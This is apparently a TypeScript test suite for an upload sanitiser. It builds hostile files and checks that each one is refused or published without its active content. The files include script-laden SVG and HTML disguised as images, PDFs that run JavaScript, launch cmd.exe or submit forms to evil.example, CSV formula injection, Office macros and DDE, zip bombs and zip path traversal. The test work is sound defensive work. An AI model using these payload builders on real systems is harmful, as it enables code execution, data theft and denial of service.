import { readFile } from 'node:fs/promises';
import { deflateSync, gzipSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { expect, test } from 'vitest';
import { docx, everything, zipOf } from '../evidence/office/build.ts';
import { nastyExcel, nastyOdf, nastyWord } from '../evidence/office/nasty.ts';
import { pdfOf, streamOf } from '../evidence/pdf/hostile.ts';
import { scene, withSegment } from '../evidence/pictures/made.ts';
import { item, O12 } from '../fixtures/broken/case.ts';
import { attacked } from './attacked.ts';

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const HTML = '<!doctype html><html><script>alert(document.domain)</script></html>';
const png = new Uint8Array(await scene().png().toBuffer());
const jpeg = new Uint8Array(await scene().jpeg().toBuffer());
const bytes = (...parts: (string | Uint8Array)[]) =>
  new Uint8Array(Buffer.concat(parts.map((part) => Buffer.from(part))));

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = (more = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] ${more} >>`;
const pdf = (catalog = '', more = '', ...objects: (string | Buffer)[]) =>
  new Uint8Array(pdfOf([`<< /Type /Catalog /Pages 2 0 R ${catalog} >>`, PAGES, page(more), ...objects]));
const action = (entries: string) => pdf('/OpenAction 4 0 R', '', `<< ${entries} >>`);
const linkTo = (entries: string) =>
  pdf('', '/Annots [4 0 R]', `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << ${entries} >> >>`);

/** A PDF whose script lies in a packed stream of objects, where no search through its bytes finds it. */
function packedScript(): Uint8Array {
  const inside = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
  const head = '6 0 ';
  const stream = streamOf(deflateSync(head + inside), `/Type /ObjStm /N 1 /First ${head.length} /Filter /FlateDecode`);
  const parts = [
    '%PDF-1.7\n',
    '1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>\nendobj\n',
    `2 0 obj\n${PAGES}\nendobj\n`,
    `3 0 obj\n${page()}\nendobj\n`,
    Buffer.concat([Buffer.from('4 0 obj\n'), stream, Buffer.from('\nendobj\n')]),
  ].map((part) => Buffer.from(part));
  const at = parts.map((_, i) => parts.slice(0, i).reduce((sum, part) => sum + part.length, 0));
  const xref = parts.reduce((sum, part) => sum + part.length, 0);
  const row = (kind: number, offset: number, last: number) => [kind, (offset >> 8) & 255, offset & 255, last];
  const rows = [row(0, 0, 255), ...at.slice(1).map((offset) => row(1, offset, 0)), row(1, xref, 0), row(2, 4, 0)];
  const table = streamOf(Buffer.from(rows.flat()), '/Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R');
  return bytes(...parts, '5 0 obj\n', table, `\nendobj\nstartxref\n${xref}\n%%EOF\n`);
}

/** A PDF that every program opens without a question, and whose objects are encrypted all the same. */
async function locked(bytes: Uint8Array): Promise<Uint8Array> {
  const document = await PDFDocument.load(bytes);
  document.encrypt({ userPassword: '', ownerPassword: 'x', permissions: {} });
  return document.save();
}

/** A zip whose files all lie in the same place, so that a few bytes unpack to any number of them (D. Fifield, 2019). */
function overlapping(files: number): Uint8Array {
  const one = Buffer.from(zipOf({ a000: new Uint8Array(1_000_000) }));
  const [record, end] = [one.indexOf('PK\x01\x02'), one.indexOf('PK\x05\x06')];
  const records = Array.from({ length: files }, (_, i) => {
    const copy = Buffer.from(one.subarray(record, end));
    copy.write(`a${String(i).padStart(3, '0')}`, 46);
    return copy;
  });
  const last = Buffer.from(one.subarray(end));
  last.writeUInt16LE(files, 8);
  last.writeUInt16LE(files, 10);
  last.writeUInt32LE(files * (end - record), 12);
  return bytes(one.subarray(0, record), ...records, last);
}

/** Zips in zips without an end, as in one that holds itself; this one has an end, which is a bomb. */
const nested = (depth: number): Uint8Array =>
  zipOf({ 'r.zip': depth > 0 ? nested(depth - 1) : zipOf({ 'a.txt': new Uint8Array(30_000_000) }) });

type Becomes =
  | { readonly refused: string }
  /** Published; none of that stands in the copy, packed or not. */
  | { readonly without: RegExp }
  /** Published as it is, and harmless because of that. */
  | { readonly because: string };

const ATTACKS: readonly (readonly [attack: string, name: string, bytes: Uint8Array, becomes: Becomes])[] = [
  ['an SVG with a script', 'a1.svg', bytes(SVG), { refused: 'evidence/foreign' }],
  ['the same called a PNG', 'a2.png', bytes(SVG), { refused: 'evidence/foreign' }],
  ['the same called a JPEG', 'a3.jpg', bytes(`<?xml version="1.0"?>\n${SVG}`), { refused: 'evidence/foreign' }],
  ['HTML called a PDF', 'b1.pdf', bytes(HTML), { refused: 'evidence/foreign' }],
  ['HTML called a CSV', 'b2.csv', bytes(HTML), { refused: 'evidence/foreign' }],
  ['HTML called a Word file', 'b3.docx', bytes(HTML), { refused: 'evidence/foreign' }],
  ['a program called a PDF', 'b4.pdf', bytes('MZ', new Uint8Array(80)), { refused: 'evidence/foreign' }],
  ['HTML with a PDF behind it', 'c1.pdf', bytes(HTML, '\n', pdf()), { refused: 'evidence/foreign' }],
  ['HTML with a zip behind it', 'c2.zip', bytes(HTML, zipOf({ 'a.txt': 'a' })), { refused: 'evidence/foreign' }],
  [
    'a GIF that is a script',
    'c3.png',
    bytes('GIF89a/*', 'x'.repeat(40), '*/=1;alert(1)'),
    { refused: 'evidence/foreign' },
  ],
  ['a PDF called a zip', 'c4.zip', pdf(), { refused: 'evidence/mismatch' }],
  ['a zip with a PDF in front', 'c5.zip', bytes(pdf(), zipOf({ 'a.txt': 'a' })), { refused: 'evidence/mismatch' }],
  ['a PNG with a zip behind it', 'd1.png', bytes(png, zipOf({ 'a.exe': 'MZ' })), { without: /a\.exe|MZ/ }],
  ['a JPEG with HTML behind it', 'd2.jpg', bytes(jpeg, HTML), { without: /<script/ }],
  ['a JPEG with HTML in its comment', 'd3.jpg', withSegment(jpeg, 0xfe, bytes(HTML)), { without: /<script/ }],
  [
    'a script when a PDF opens',
    'e1.pdf',
    action('/S /JavaScript /JS (app.alert\\(1\\))'),
    { without: /JavaScript|app\.alert/ },
  ],
  ['the same in a packed stream of objects', 'e2.pdf', packedScript(), { without: /JavaScript|app\.alert/ }],
  ['a program when a PDF opens', 'e3.pdf', action('/S /Launch /F (cmd.exe)'), { without: /Launch|cmd\.exe/ }],
  [
    'a form that is sent away',
    'e4.pdf',
    action('/S /SubmitForm /F (https://evil.example/)'),
    { without: /SubmitForm|evil/ },
  ],
  ['a file that is fetched', 'e5.pdf', action('/S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf)'), { without: /evil/ }],
  ['a link that is a script', 'e6.pdf', linkTo('/S /URI /URI (javascript:alert\\(1\\))'), { without: /javascript:/i }],
  ['a link to a file of the reader', 'e7.pdf', linkTo('/S /URI /URI (file:///C:/secret)'), { without: /file:/ }],
  [
    'a script behind a key',
    'e8.pdf',
    pdf('', '/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>'),
    { without: /JavaScript|app\.alert/ },
  ],
  [
    'a program inside of a PDF',
    'e9.pdf',
    pdf(
      '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>',
      '',
      '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>',
      streamOf('MZ-program', '/Type /EmbeddedFile'),
    ),
    { without: /MZ-program/ },
  ],
  [
    'a form of XFA',
    'f1.pdf',
    pdf('/AcroForm << /Fields [] /XFA 4 0 R >>', '', streamOf('<xdp><script>alert(1)</script></xdp>')),
    { without: /<script|XFA/ },
  ],
  [
    'a film that plays',
    'f2.pdf',
    pdf(
      '',
      '/Annots [4 0 R]',
      '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << >> >> >>',
    ),
    { without: /RichMedia/ },
  ],
  [
    'a script in a PDF that is encrypted, and opens without a password',
    'f3.pdf',
    await locked(action('/S /JavaScript /JS (app.alert\\(1\\))')),
    { refused: 'evidence/encrypted' },
  ],
  [
    'a page of HTML that Word reads into its document',
    'g0.docx',
    docx('<w:altChunk r:id="rId1"/>', { relations: { rId1: ['aFChunk', 'a.html'] }, parts: { 'word/a.html': HTML } }),
    { refused: 'evidence/uncleanable' },
  ],
  [
    'macros, templates, DDE and OLE in Word',
    'g1.docx',
    nastyWord(),
    { without: /vbaProject|DDEAUTO|oleObject|attachedTemplate|file:/ },
  ],
  [
    'macros, DDE and connections in Excel',
    'g2.xlsx',
    nastyExcel(),
    { without: /vbaProject|ddeLink|WEBSERVICE|connections|file:/ },
  ],
  [
    'scripts and events in OpenDocument',
    'g3.odt',
    nastyOdf(),
    { without: /event-listener|vnd\.sun\.star\.script|object-ole|script-lc|file:/ },
  ],
  [
    'formulas in a CSV file',
    'h1.csv',
    bytes('ชื่อ,จำนวน\n=cmd|\'/c calc\'!A1,1\n"\t=HYPERLINK(""x"")",2\n@SUM(A1),3\n+cmd|\'x\'!A1,4\n-HYPERLINK("x"),5\n'),
    { without: /(?:^|[,"])\s*[=+@-](?:cmd|HYPERLINK|SUM)/m },
  ],
  [
    'HTML in the cells of a CSV file',
    'h2.csv',
    bytes('ชื่อ,จำนวน\n<img src=x onerror=alert(1)>,1\n'),
    { because: 'text/csv is offered for download, never shown (src/servers)' },
  ],
  [
    'a zip that unpacks to a thousand times its size',
    'i1.zip',
    zipOf({ 'a.txt': new Uint8Array(300_000_000) }),
    { refused: 'evidence/bomb' },
  ],
  [
    'a zip whose names lead out of it',
    'i2.zip',
    zipOf({ '../../etc/cron.d/x': 'a', 'C:\\Windows\\x': 'b' }),
    { refused: 'evidence/unsafe-name' },
  ],
  ['a zip whose files lie over each other', 'i4.zip', overlapping(300), { refused: 'evidence/bomb' }],
  ['zips in zips', 'i5.zip', zipOf({ 'a.txt': 'ก', 'r.zip': nested(20) }), { without: /r\.zip/ }],
  ['nothing but zips in zips', 'i6.zip', nested(20), { refused: 'evidence/empty' }],
  ['compressed bytes without a name', 'i3.zip', new Uint8Array(gzipSync('a')), { refused: 'evidence/foreign' }],
];

/** All in one town and one check: files that attack side by side must not help each other either. */
test('a file that attacks its reader is refused, or published without what attacks', async () => {
  const list = ATTACKS.map(
    ([attack, name]) => `  - title: ${JSON.stringify(attack)}\n    file: o12/${name}\n    alt: ก`,
  );
  const { diagnostics, documents } = await attacked({
    [O12]: item(`status: done\nevidence:\n${list.join('\n')}`),
    ...Object.fromEntries(ATTACKS.map(([, name, content]) => [`oit/2567/o12/${name}`, content])),
  });
  const refusals = (name: string) =>
    diagnostics.filter(
      ({ code, severity, line, file }) =>
        severity === 'error' &&
        code.startsWith('evidence/') &&
        file === `content/${O12}` &&
        line === 5 + 3 * ATTACKS.findIndex((one) => one[1] === name),
    );
  const outcomes = await Promise.all(
    ATTACKS.map(async ([attack, name, , becomes]) => {
      const document = [...documents.values()].find(({ file }) => file === `o12/${name}`);
      if (!document)
        return [
          attack,
          {
            refused: refusals(name)
              .map(({ code }) => code)
              .join(),
          },
        ];
      if ('refused' in becomes) return [attack, 'published'];
      const copy = await readFile(document.published);
      return [attack, 'without' in becomes && becomes.without.test(textIn(name, copy)) ? 'published with it' : becomes];
    }),
  );
  expect(outcomes).toEqual(ATTACKS.map(([attack, , , becomes]) => [attack, becomes]));
});

/** Else the test above could not fail. */
test('what must not stand in a copy stands in the file', () => {
  for (const [attack, name, content, becomes] of ATTACKS)
    if ('without' in becomes && name !== 'e2.pdf') expect(textIn(name, content), attack).toMatch(becomes.without);
});

function textIn(name: string, content: Uint8Array): string {
  return /\.(?:docx|xlsx|odt)$/.test(name) ? everything(content) : Buffer.from(content).toString('latin1');
}
